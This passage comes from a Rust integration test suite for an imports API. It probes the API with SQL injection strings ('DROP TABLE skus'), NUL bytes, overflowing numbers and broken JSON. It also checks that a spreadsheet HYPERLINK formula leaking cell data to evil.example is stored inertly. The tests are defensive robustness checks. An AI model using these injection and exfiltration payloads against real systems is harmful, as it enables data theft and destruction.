            "filter ids with a NUL".into(),
            Method::GET,
            "/api/imports?filter[ids]=%00".into(),
            None,
            &[200, 400],
        ),
        (
            "filter with SQL".into(),
            Method::GET,
            "/api/imports?filter[q][status_eq]='%20OR%201=1%20--".into(),
            None,
            &[200, 400],
        ),
        (
            "filter on an unknown attribute".into(),
            Method::GET,
            "/api/imports?filter[q][id;DROP%20TABLE%20skus_eq]=1".into(),
            None,
            &[400],
        ),
        (
            "sort with SQL".into(),
            Method::GET,
            "/api/imports?sort=created_at;DROP%20TABLE%20skus".into(),
            None,
            &[400],
        ),
        (
            "a huge page number".into(),
            Method::GET,
            "/api/imports?page[number]=99999999999999999999".into(),
            None,
            &[400],
        ),
        (
            "the largest page number".into(),
            Method::GET,
            "/api/imports?page[number]=9223372036854775807".into(),
            None,
            &[200, 400],
        ),
        (
            "a query that is not UTF-8".into(),
            Method::GET,
            "/api/imports?page[number]=%FF".into(),
            None,
            &[400],
        ),
        (
            "PATCH a NUL reference".into(),
            Method::PATCH,
            format!("/api/imports/{id}"),
            Some(patch(json!({"reference": "\u{0}"}))),
            &[422],
        ),
        (
            "PATCH a NUL in metadata".into(),
            Method::PATCH,
            format!("/api/imports/{id}"),
            Some(patch(json!({"metadata": {"a": "\u{0}"}}))),
            &[422],
        ),
        (
            "PATCH broken JSON".into(),
            Method::PATCH,
            format!("/api/imports/{id}"),
            Some(b"{\"data\":".to_vec()),
            &[400],
        ),
    ];
    for (name, method, path, body, allowed) in requests {
        let ct = body.as_ref().map(|_| JSONAPI);
        let a = api.send(method, &path, ct, body).await;
        if (200..300).contains(&a.status.as_u16()) {
            if !allowed.contains(&a.status.as_u16()) {
                problems.push(format!("{name}: {} {}", a.status, a.body));
            }
        } else if let Some(p) = not_a_clear_4xx(&name, &a, allowed) {
            problems.push(p);
        }
    }
    let exists: bool = env
        .query("SELECT to_regclass('public.skus') IS NOT NULL AND to_regclass('public.imports') IS NOT NULL")
        .await[0]
        .get(0);
    assert!(exists, "a table was dropped");
    server.stop().await;
    assert!(problems.is_empty(), "\n{}", problems.join("\n"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_but_valid_inputs_through_the_api_end_as_per_input_results() {
    let env = TestEnv::new().await;
    let (api, server) = api_for(&env, 32 * 1024 * 1024).await;
    let text = |path: &str| String::from_utf8(read_corpus(path)).unwrap();
    let json_file = |path: &str| -> Value { serde_json::from_slice(&read_corpus(path)).unwrap() };
    let big = big_cell();
    // (attributes, inputs_size, processed, errors)
    let cases = vec![
        (
            json!({"format": "csv", "inputs": text("csv/formula_cells.csv")}),
            6,
            6,
            0,
        ),
        (
            json!({"format": "csv", "inputs": text("csv/ragged_rows.csv")}),
            5,
            2,
            3,
        ),
        (
            json!({"format": "csv", "inputs": text("csv/crlf_bom.csv")}),
            2,
            2,
            0,
        ),
        (
            json!({"format": "csv", "inputs": text("csv/nul_in_values.csv")}),
            3,
            1,
            2,
        ),
        (json!({"format": "csv", "inputs": big_csv(&big)}), 2, 2, 0),
        (
            json!({"inputs": json_file("json/sql_injection.json")}),
            5,
            5,
            0,
        ),
        (
            json!({"inputs": json_file("json/overflow_numbers.json")}),
            10,
            2,
            8,
        ),
        (
            json!({"inputs": json_file("json/mixed_elements.json")}),
            7,
            2,
            5,
        ),
        (
            json!({"inputs": json_file("json/unicode_normalization.json")}),
            2,
            2,
            0,
        ),
        (
            json!({"inputs": json_file("json/nul_in_text_values.json")}),
            4,
            1,
            3,
        ),
    ];
    let mut ids = Vec::new();
    for (mut attributes, size, _, _) in cases.clone() {
        attributes["resource_type"] = json!("skus");
        attributes["skip_errors"] = json!(true);
        let a = api.create(attributes).await;
        assert_eq!(a.status, StatusCode::CREATED, "{}", a.body);
        assert_eq!(a.body["data"]["attributes"]["inputs_size"], size);
        ids.push(a.body["data"]["id"].as_str().unwrap().to_owned());
    }
    let worker = env.spawn_worker(env.worker_config(4, 3, 10));
    let mut problems = Vec::new();
    for ((attributes, _, processed, errors), id) in cases.iter().zip(&ids) {
        let import = env.wait_final(id, Duration::from_secs(45)).await;
        let got = (import.status, import.processed_count, import.errors_count);
        if got != (Status::Completed, *processed, *errors) {
            let what = attributes.to_string();
            problems.push(format!(
                "{}: {got:?}, expected completed, {processed}, {errors}: {:?}",
                what.chars().take(80).collect::<String>(),
                import.errors_log
            ));
        }
        // The attachment of the inputs is served, whatever they hold.
        let doc = api
            .send(Method::GET, &format!("/api/imports/{id}"), None, None)
            .await;
        assert_eq!(doc.status, StatusCode::OK, "{}", doc.body);
        let url = doc.body["data"]["attributes"]["attachment_url"]
            .as_str()
            .unwrap();
        let resp = api.http.get(url).send().await.unwrap();
        assert_eq!(resp.status(), StatusCode::OK);
    }
    // All of the tenant's rows: every processed input and nothing else.
    let processed: i64 = cases.iter().map(|c| c.2).sum();
    let rows: i64 = env
        .query("SELECT count(*) FROM skus WHERE organization_id = 'acme'")
        .await[0]
        .get(0);
    assert_eq!(rows, processed);
    let fx: String = env
        .query("SELECT name FROM skus WHERE organization_id = 'acme' AND code = 'FX1'")
        .await[0]
        .get(0);
    assert_eq!(
        fx,
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click me\")"
    );
    let dropped: String = env
        .query("SELECT name FROM skus WHERE organization_id = 'acme' AND code = '''; DROP TABLE skus; --'")
        .await[0]
        .get(0);
    assert_eq!(dropped, "Robert'); DROP TABLE skus;--");
    worker.stop().await;
    server.stop().await;
    assert!(problems.is_empty(), "\n{}", problems.join("\n"));
}
